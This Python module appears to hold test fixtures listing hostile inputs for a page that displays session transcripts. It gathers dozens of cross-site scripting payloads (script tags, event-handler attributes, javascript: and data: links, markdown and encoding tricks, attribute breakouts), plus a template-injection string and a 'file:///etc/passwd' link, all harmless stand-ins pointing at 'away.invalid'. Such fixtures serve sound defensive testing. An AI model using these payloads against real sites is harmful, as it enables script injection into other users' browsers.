"""What a hostile session may hold: texts that run or fetch something where a page takes them in."""

from __future__ import annotations

from typing import Final

_RUN: Final = "window.ran=1"
_AWAY: Final = "https://away.invalid"

_MARKUP: Final = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT src={_AWAY}/a.js></SCRIPT>",
    f"</script><script>{_RUN}</script>",
    f"<!--<script>--><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_AWAY}/a.png>",
    f"<image href={_AWAY}/a.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><image href='{_AWAY}/a.png'/></svg>",
    f"<svg><use href='{_AWAY}/a.svg#x'/></svg>",
    f"<math><mtext></p><img src=x onerror={_RUN}>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src={_AWAY}></iframe>",
    f"<object data={_AWAY}/a.swf></object>",
    f"<embed src={_AWAY}/a.swf>",
    f"<link rel=stylesheet href={_AWAY}/a.css>",
    f"<link rel=dns-prefetch href={_AWAY}>",
    f"<style>@import '{_AWAY}/a.css';</style>",
    f"<style>body{{background:url({_AWAY}/a.png)}}</style>",
    f"<p style='background:url({_AWAY}/a.png)'>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}/>",
    f"<form action={_AWAY}><button autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video src={_AWAY}/a.mp4 onerror={_RUN}></video>",
    f"<audio src={_AWAY}/a.mp3 autoplay></audio>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<a href='javascript:{_RUN}' autofocus onfocus={_RUN}>x</a>",
    f"<template><img src=x onerror={_RUN}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<textarea></textarea><img src=x onerror={_RUN}>",
    f"<title></title><img src=x onerror={_RUN}>",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<xmp></xmp><img src=x onerror={_RUN}>",
    f"<portal src={_AWAY}>",
    f"<table background={_AWAY}/a.png>",
)
_BREAKING_OUT: Final = (
    f'" onmouseover={_RUN} autofocus onfocus={_RUN} x="',
    f"' onmouseover={_RUN} autofocus onfocus={_RUN} x='",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" style="background:url({_AWAY}/a.png)',
    f"`onerror={_RUN}`",
    f'png;base64,AA"><img src=x onerror={_RUN}>',
    f"]]><img src=x onerror={_RUN}>",
    f"--><img src=x onerror={_RUN}>",
    f"</style><img src=x onerror={_RUN}>",
    f"</title><img src=x onerror={_RUN}>",
    f"</pre></code><img src=x onerror={_RUN}>",
    f"</details></summary><img src=x onerror={_RUN}>",
    "<!-- data -->",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${window.ran=1}",
    "__proto__",
    "constructor",
)
_MARKDOWN: Final = (
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java\tscript:{_RUN})",
    f"[x](javascript&colon;{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](<javascript:{_RUN}>)",
    f"[x](vbscript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"[x](data:image/svg+xml,<svg onload={_RUN}>)",
    "[x](file:///etc/passwd)",
    "[x](//away.invalid/a)",
    f'[x]({_AWAY}/"onmouseover="{_RUN})',
    f'[x]({_AWAY} "\' onmouseover={_RUN}")',
    f"<javascript:{_RUN}>",
    f"![x]({_AWAY}/a.png)",
    f"![x](javascript:{_RUN})",
    f"![x](data:image/svg+xml,<svg onload={_RUN}>)",
    f'!["onerror={_RUN}]({_AWAY}/a.png)',
    f"[x][y]\n\n[y]: javascript:{_RUN}",
    f"![x][y]\n\n[y]: {_AWAY}/a.png",
    f'```"><img src=x onerror={_RUN}>\ncode\n```',
    f"```html\n<script>{_RUN}</script>\n```",
    f"~~~ <img/src=x/onerror={_RUN}>\ncode\n~~~",
    f"|a|\n|:-:|\n|<img src=x onerror={_RUN}>|",
    f"# <img src=x onerror={_RUN}>",
    f"    <script>{_RUN}</script>",
    f"`<script>{_RUN}</script>`",
    f"<div>\n\n<script>{_RUN}</script>\n\n</div>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
)
_ENCODED: Final = (
    f"\u202e<script>{_RUN}</script>\u2066",
    f"\x00<script\x00>{_RUN}</script>",
    f"\x1b[31m<script>{_RUN}</script>\x1b[0m",
    f'\x1b[31"onclick={_RUN}m text',
    f"\x1b]8;;javascript:{_RUN}\x07link\x1b]8;;\x07",
    f"\u2028<img src=x onerror={_RUN}>",
    f"＜script＞{_RUN}＜/script＞",
    f"\ufeff<script>{_RUN}</script>",
    f"<scr\u200bipt>{_RUN}</script>",
    f"<img\x0csrc=x\x0conerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}/>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
)
_BEFORE: Final = ("", "<command-name>/x</command-name>", "<system-reminder>")
_SOME: Final = (*_MARKUP[:12], *_BREAKING_OUT[:10], *_MARKDOWN[:12], *_ENCODED[:6])

PAYLOADS: Final = tuple(
    dict.fromkeys(
        [*_MARKUP, *_BREAKING_OUT, *_MARKDOWN, *_ENCODED]
        + [f"{before}{one}" for before in _BEFORE[1:] for one in _SOME]
        + [f"{one}\n{one}" for one in (*_MARKUP[:20],)]
    )
)
